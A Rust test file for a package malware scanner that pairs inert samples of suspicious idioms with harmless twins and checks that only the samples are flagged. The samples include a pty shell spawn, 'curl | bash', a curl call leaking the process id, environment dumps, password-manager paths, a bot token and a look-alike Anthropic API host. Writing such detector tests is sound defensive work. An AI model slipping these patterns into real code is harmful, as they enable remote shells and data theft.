//! Every way of writing in `assets/rules/idioms.toml` has an inert sample that is told, as a small finding, and a twin
//! that says the same plainly and is left alone.

use crate::common::{options, write};
use doorward_protocol::{Severity, Verdict};
use doorward_scan::{Cancel, scan};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

/// A file's ending, what is written so, and the same as hands write it.
type Case<'t> = (&'static str, &'t str, &'t str);

const CASES: &[Case<'static>] = &[
    // ── O-03 ──
    ("js", "const _0x51ab = 1;\n", "const value0x51ab = 1;\n"),
    ("py", "_0x51ab = 1\n", "value = '_0x51ab'\n"),
    ("rs", "pub const _0x51AB: u32 = 1;\n", "pub const V: u32 = 0x51AB;\n"),
    ("js", "// Obfuscated with a tool\nexports.a = 1;\n", "// Readable\nexports.a = 1;\n"),
    ("js", "if (!![]) exports.a = 1;\n", "if (!list.length) exports.a = 1;\n"),
    ("js", "exports.a = 7 ^ 3 << 2 / 5;\n", "exports.a = seed ^ 3 << 2;\n"),
    (
        "js",
        "(function() { let a = 1; (function() { let b = 2; (function() { exports.c = a + b; })(); })(); })();\n",
        "(function() { let a = 1; (function() { exports.c = a; })(); })();\n",
    ),
    ("py", "add = (lambda a: (lambda b: (lambda c: a + b + c)))\n", "add = lambda a, b, c: a + b + c\n"),
    (
        "rs",
        "pub fn f() { let add = |a: i32| { |b: i32| { |c: i32| a + b + c } }; }\n",
        "pub fn f() { let add = |a: i32, b: i32, c: i32| a + b + c; }\n",
    ),
    ("py", "if not 1:\n    pass\nwhile 'b' > 0:\n    pass\n", "while 1:\n    pass\nif not one:\n    pass\n"),
    ("rs", "pub fn f() { while ('b' * 7) { } }\n", "pub fn f(b: u32) { while (b * 7) > 0 { } }\n"),
    // ── O-04 ──
    (
        "js",
        "exports.a = parseInt('31', 8) + parseInt('2a', 16) + parseInt('11', 2) + parseInt('1', 9);\n",
        "exports.a = parseInt(first, 8) + parseInt('2a', 16);\n",
    ),
    ("py", "a = hex(1) + hex(2) + b + hex(3) + hex(4)\n", "a = hex(1) + hex(2)\n"),
    (
        "rs",
        "pub fn f() -> String { 1.to_string() + &2.to_string() + &3.to_string() + &4.to_string() }\n",
        "pub fn f(a: u32) -> String { a.to_string() + &2.to_string() }\n",
    ),
    (
        "rs",
        "pub fn f() -> String { format!(\"{}{}{}{}{}{}\", \"l\", \"e\", \"t\", 1, 2, 3) }\n",
        "pub fn f(a: &str) -> String { format!(\"{}{}{}\", \"let\", a, 3) }\n",
    ),
    (
        "js",
        "exports.a = ['l', 'e', 't', 't', 'e', 'r'].join('');\n",
        "exports.a = ['let', 'ter'].join('');\n",
    ),
    (
        "js",
        "exports.a = [0x6c, 101, 116, 116, 101, 114].map(c => String.fromCharCode(c)).join('');\n",
        "exports.a = [0x6c, 101, 116, 116, 101, 114].map(c => c * 2);\n",
    ),
    (
        "py",
        "a = ''.join(chr(c) for c in [108, 101, 116, 116, 101, 114])\n",
        "a = ''.join(chr(c) for c in codes)\n",
    ),
    ("js", "const run = eval;\nwindow.eval('1');\n", "const run = evaluate;\nwindow.evaluate('1');\n"),
    (
        "py",
        "import sys\nsys.modules['os'].system('true')\n",
        "import sys\nsys.modules['made_up'].system('true')\n",
    ),
    ("py", "import os\nos.__getattribute__('system')('true')\n", "import os\nos.getcwd()\n"),
    ("py", "globals()['__builtins__'].eval('1')\n", "globals()['settings'].get('1')\n"),
    ("py", "import os\na = os.getenv('MADE' + '_UP')\n", "import os\na = os.getenv('MADE_UP')\n"),
    ("py", "a = eval('\\x61\\x62\\x63')\n", "a = '\\x61\\x62\\x63'\n"),
    ("py", "a = b'\\x83\\x96\\x84\\x85'.decode('cp1026')\n", "a = b'\\x83\\x96\\x84\\x85'.decode('utf-8')\n"),
    ("py", "text = 'aW1wb3J0IG9zLCBzeXM7IHByaW50KDEp'\n", "text = 'VGhpcyBpcyBhIHNlbnRlbmNlIG9mIHdvcmRz'\n"),
    ("py", "sub = __import__('subprocess')\n", "sub = __import__(name)\n"),
    // ── M-01, M-04 ──
    ("py", "execfile('settings.py')\n", "execute('settings.py')\n"),
    (
        "py",
        "tool = b'MZ\\x90\\x00\\x03\\x00\\x00\\x00\\x04\\x00\\x00\\x00'\n",
        "is_tool = head.startswith(b'MZ\\x90\\x00')\n",
    ),
    ("js", "Function('console.log(1)')();\n", "const all = Function('return this')();\n"),
    (
        "py",
        "from types import FunctionType\nf = FunctionType(compile('1', 'a', 'eval'), {})\n",
        "from types import FunctionType\nf = isinstance(g, FunctionType)\nc = compile('1', 'a', 'eval')\n",
    ),
    ("py", "import pickle\npickle.loads(data)()\n", "import pickle\nvalue = pickle.loads(data)\n"),
    (
        "py",
        "open('tool.exe', 'wb').write(data)\n",
        "open('tool.exe', 'rb').read()\nopen('a.txt', 'w').write(data)\n",
    ),
    (
        "js",
        "require('child_process').exec('node -e \"1\"');\n",
        "require('child_process').exec('node --version');\n",
    ),
    // ── O-15 ──
    ("js", "Array.prototype.push = function () {};\n", "class List { push() {} }\n"),
    (
        "py",
        "import builtins\nsetattr(builtins, 'str', 1)\n",
        "import builtins\nsetattr(settings, 'str', 1)\n",
    ),
    // ── what it brings, and what it asks ──
    (
        "py",
        "import ctypes\nc = ctypes.CDLL('libc.so.6')\n",
        "import ctypes\nc = ctypes.CDLL('libmade_up.so')\n",
    ),
    (
        "py",
        "all = ['Opera Software/Opera GX Stable', 'KeePass Password Safe 2']\n",
        "all = ['Opera Software/Opera GX Stable']\n",
    ),
    ("py", "shellcode = b'\\x90\\x90'\n", "name = 'shellcode'\n"),
    (
        "py",
        "telegram = '1234567890:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'\n",
        "telegram = '1234567890:your-key'\n",
    ),
    ("py", "import os\nall = str(os.environ)\n", "import os\nall = str(os.environ.get('HOME'))\n"),
    ("py", "import os\nos.system('made-up --serve &')\n", "import os\nos.system('made-up && true')\n"),
    (
        "py",
        "import subprocess\ntry:\n    subprocess.Popen('tool', stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\nexcept:\n    pass\n",
        "import subprocess\nsubprocess.Popen('tool', stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
    ),
    ("py", "import os, pty\nos.dup2(1, 2)\npty.spawn('/bin/sh')\n", "import os\nos.dup2(1, 2)\n"),
    (
        "py",
        "import os\nos.system('curl http://127.0.0.1:9/?' + str(os.getpid()))\n",
        "import os\nos.system('curl --version')\n",
    ),
    ("py", "import os\nwho = os.popen('whoami').read()\n", "who = result['whoami']\n"),
    (
        "py",
        "import getpass, platform, socket\nwho = (getpass.getuser(), socket.gethostname(), platform.platform())\n",
        "import platform\nwhere = platform.platform()\n",
    ),
    (
        "rs",
        "pub fn f() { std::process::Command::new(\"cargo\").arg(\"run\").arg(\"-q\").status().unwrap(); }\n",
        "pub fn f() { std::process::Command::new(\"cargo\").arg(\"metadata\").status().unwrap(); }\n",
    ),
    (
        "js",
        "exports.base = 'https://api-anthropic.made-up.workers.dev/v1';\n",
        "exports.base = 'https://api.anthropic.com/v1/messages';\n",
    ),
    ("sh", "eval $command\n", "eval \"$(tool env)\"\n"),
    ("sh", "curl https://127.0.0.1:9/x | bash\n", "curl https://127.0.0.1:9/x | cat\n"),
];

fn lay_out(folder: &Path, ending: &str, text: &str) {
    match ending {
        "py" => write(
            folder,
            &[
                ("made_up-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: made-up\nVersion: 1.0\n"),
                ("made_up-1.0.dist-info/RECORD", "made_up.py,,\nmade_up-1.0.dist-info/METADATA,,\n"),
                ("made_up.py", &format!("def wait():\n    {}", text.replace('\n', "\n    "))),
            ],
        ),
        "rs" => write(
            folder,
            &[("Cargo.toml", "[package]\nname = \"made-up\"\nversion = \"1.0.0\"\n"), ("src/lib.rs", text)],
        ),
        _ => write(
            folder,
            &[
                ("package.json", r#"{"name":"made-up","version":"1.0.0","main":"index.js"}"#),
                (&format!("index.{ending}"), text),
            ],
        ),
    }
}

/// The reasons told of each folder, none of which must be worse than notable.
fn reasons(folders: &[PathBuf]) -> Vec<BTreeSet<String>> {
    let report = scan(folders, &options(), &Cancel::default(), &mut |_| {}).expect("the scan");
    let mut told = vec![BTreeSet::new(); folders.len()];
    for package in report.packages {
        assert!(package.verdict <= Verdict::Notable, "{:#?}", package.findings);
        let folder = folders.iter().position(|folder| package.path.starts_with(folder)).expect("one of them");
        let low = package.findings.into_iter().filter(|one| one.severity == Severity::Low);
        told[folder].extend(low.map(|one| one.why));
    }
    told
}

#[test]
fn every_idiom_is_told_of_its_sample_and_not_of_its_twin() {
    let text = include_str!("../../../../assets/rules/idioms.toml");
    let whys = text.lines().filter_map(|line| line.strip_prefix("why = \"")?.strip_suffix('"'));
    let mut untold: BTreeSet<String> = whys.map(str::to_owned).collect();
    let known = untold.clone();
    let root = tempfile::tempdir().expect("a folder");
    let blob = format!("'{}'", "QUJD".repeat(90));
    let blobs = [5, 1].map(|count| format!("all = [{}]\n", vec![blob.as_str(); count].join(", len, ")));
    let long: Case<'_> = ("py", &blobs[0], &blobs[1]);
    let cases: Vec<&Case<'_>> = CASES.iter().chain([&long]).collect();
    let mut folders = Vec::new();
    for (number, (ending, sample, twin)) in cases.iter().enumerate() {
        for (name, text) in [("bad", sample), ("twin", twin)] {
            let folder = root.path().join(format!("{number}-{name}"));
            lay_out(&folder, ending, text);
            folders.push(folder.canonicalize().expect("it was just made"));
        }
    }
    let mut wrong = Vec::new();
    for ((_, sample, twin), told) in cases.iter().zip(reasons(&folders).chunks(2)) {
        let bad: BTreeSet<&String> = told[0].intersection(&known).collect();
        if bad.is_empty() {
            wrong.push(format!("not told of {sample:?}: {:?}", told[0]));
        }
        if bad.iter().any(|why| told[1].contains(*why)) {
            wrong.push(format!("told of {twin:?}: {:?}", told[1]));
        }
        untold.retain(|why| !told[0].contains(why));
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    assert!(untold.is_empty(), "without a sample: {untold:#?}");
}
